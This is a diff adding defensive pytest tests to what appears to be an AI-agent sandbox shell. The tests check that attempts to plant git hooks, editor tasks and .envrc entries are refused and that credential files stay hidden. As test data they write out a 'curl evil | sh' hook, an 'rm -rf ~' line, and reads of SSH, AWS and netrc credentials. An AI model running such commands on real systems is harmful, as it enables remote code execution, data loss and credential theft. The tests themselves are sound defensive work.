@@ -189,3 +189,42 @@ async def test_provider_keys_never_reach_the_environment(
 def test_settings_that_would_pass_a_provider_key_are_refused(workspace: Path, config: SandboxConfig) -> None:
     with pytest.raises(SandboxConfigError, match="provider API keys never enter the sandbox"):
         Shell(workspace, config, secret_env=SecretEnv(values=frozenset({API_KEY})))
+
+
+async def test_paths_that_would_run_code_outside_the_sandbox_are_read_only_in_it(
+    shell: Callable[..., Shell], workspace: Path
+) -> None:
+    sh = shell()  # made before the repository exists: each call sees the workspace as it is now
+    git = "git -c user.name=t -c user.email=t@example.com"
+    created = await sh.bash(
+        f"git init -q && echo a > a.txt && git add a.txt && {git} commit -qm one && echo ok"
+    )
+    assert created.output.endswith("ok"), created.output
+    (workspace / ".vscode").mkdir()
+    (workspace / ".envrc").write_text("export A=1\n")
+    attempts = [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "git config core.hooksPath /tmp/hooks",
+        "echo '{}' > /workspace/.vscode/tasks.json",
+        "echo 'rm -rf ~' >> .envrc",
+    ]
+    result = await sh.bash(
+        "; ".join(f"{a} || echo REFUSED" for a in attempts)
+        + f"; {git} commit -qam two --allow-empty && echo committed"
+    )
+    assert result.output.count("REFUSED") == len(attempts), result.output
+    assert result.output.endswith("committed")
+    assert (
+        not (workspace / ".git/hooks/pre-commit").exists() and not (workspace / ".vscode/tasks.json").exists()
+    )
+    assert "hooksPath" not in (workspace / ".git/config").read_text()
+    assert (workspace / ".envrc").read_text() == "export A=1\n"
+
+
+async def test_a_credential_folder_made_after_the_session_started_is_hidden(workspace: Path) -> None:
+    sh = Shell(workspace, SandboxConfig(env={"HOME": str(workspace)}), home=workspace)
+    assert (await sh.bash("cat notes.txt 2>/dev/null; echo first")).output == "first"
+    _fake_home(workspace)
+    result = await sh.bash("cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc; cat ~/notes.txt")
+    assert not any(secret in result.output for secret in SECRETS), result.output
+    assert "ordinary notes" in result.output
